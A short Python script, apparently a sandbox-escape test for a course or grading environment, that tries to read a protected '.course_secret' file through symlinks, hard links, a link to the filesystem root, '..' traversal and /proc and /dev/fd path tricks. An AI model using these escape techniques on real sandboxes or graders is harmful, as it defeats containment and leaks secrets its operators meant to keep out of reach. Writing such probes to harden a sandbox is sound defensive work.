"""
tries: to reach files through links of its own and through '..'
layers: both
unlocked: works
"""

import os

target = KNOWN["course"] + "/.course_secret"
for make in (os.symlink, os.link):
    try:
        make(target, make.__name__)
        won(open(make.__name__).read())
    except OSError:
        pass
try:
    os.symlink(KNOWN["course"], "folder")
    os.symlink("/", "root")
    os.symlink("../wires", "wires2")
except OSError:
    pass
for path in (
    "folder/.course_secret",
    "root" + target,
    "../../../.." + target,
    "/proc/self/cwd/../../.." + target,
    "/proc/self/root" + target,
    "/proc/1/root" + target,
    "/dev/fd/../../.." + target,
):
    try:
        won(open(path).read())
    except OSError:
        pass
